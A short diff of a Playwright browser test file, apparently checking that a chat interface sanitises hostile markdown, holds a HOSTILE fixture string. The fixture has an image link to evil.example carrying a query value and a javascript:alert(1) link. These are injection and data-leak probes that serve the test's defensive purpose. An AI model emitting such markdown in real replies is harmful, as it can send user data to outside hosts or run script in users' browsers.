@@ -8,7 +8,7 @@ from typing import Any
 import pytest
 from playwright.sync_api import expect
 
-pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]
+pytestmark = [pytest.mark.browser]
 TALKER = "talker"
 LANGUAGES = ("zh", "en")
 HOSTILE = """看这里 ![x](http://evil.example/?q=phi) [点我](javascript:alert(1)) [去](http://evil.example/a)
